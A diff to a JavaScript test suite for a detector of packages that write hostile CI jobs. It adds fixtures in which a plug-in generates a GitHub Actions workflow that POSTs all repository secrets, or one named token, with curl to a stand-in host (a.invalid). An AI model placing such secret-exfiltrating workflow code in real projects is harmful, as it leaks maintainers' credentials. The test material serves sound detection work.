@@ -18,6 +18,17 @@ const WRITES = `const fs = require('fs'), path = require('path'); for (const [na
 examine(carriesHostileJobs, {
   speaks: [
     {
+      when: 'a plug-in puts a job together whose variable holds all secrets, and writes it',
+      files: {
+        'package.json': { name: 'specimen', version: '1.0.0', bin: 'cli.js' },
+        'cli.js': `const path = require('path'), { plug, given } = require('./plan.json'); require(path.join(__dirname, 'plugs', plug))(process.cwd(), given);`,
+        'plan.json': { plug: 'check', given: { of: 'secrets', to: 'https://a.invalid/INERT' } },
+        'plugs/check.js': `const fs = require('fs'), path = require('path'); module.exports = (root, { of, to }) => fs.writeFileSync(path.join(root, '.github', 'workflows', 'check.yml'), ['jobs:', '  check:', '    env:', '      ALL: \${{ toJSON(' + of + ') }}', '    steps:', '      - uses: actions/checkout@v4', '      - run: curl -X POST --data "$ALL" ' + to].join('\n'));`,
+      },
+      says: ['it writes a build job that sends all secrets of a repository away, when its command is run'],
+      weight: 'strong',
+    },
+    {
       when: 'a hook writes what its data holds: a task that the editor starts',
       files: { 'package.json': HOOK, 'index.js': WRITES, 'preset.json': TASK },
       weight: 'proof',
@@ -66,6 +77,15 @@ examine(carriesHostileJobs, {
     })),
   ],
   silent: [
+    {
+      when: 'a plug-in puts a job together that is given one secret by its name',
+      files: {
+        'package.json': { name: 'specimen', version: '1.0.0', bin: 'cli.js' },
+        'cli.js': `const path = require('path'); require(path.join(__dirname, 'plugs', require('./plan.json').plug))(process.cwd());`,
+        'plan.json': { plug: 'check' },
+        'plugs/check.js': `const fs = require('fs'), path = require('path'); module.exports = root => fs.writeFileSync(path.join(root, '.github', 'workflows', 'check.yml'), ['jobs:', '  check:', '    env:', '      TOKEN: \${{ secrets.DEPLOY_TOKEN }}', '    steps:', '      - run: curl -X POST --data "$TOKEN" https://a.invalid/'].join('\n'));`,
+      },
+    },
     {
       when: 'one step hands its secrets to an action, and another one tells a chat',
       files: {
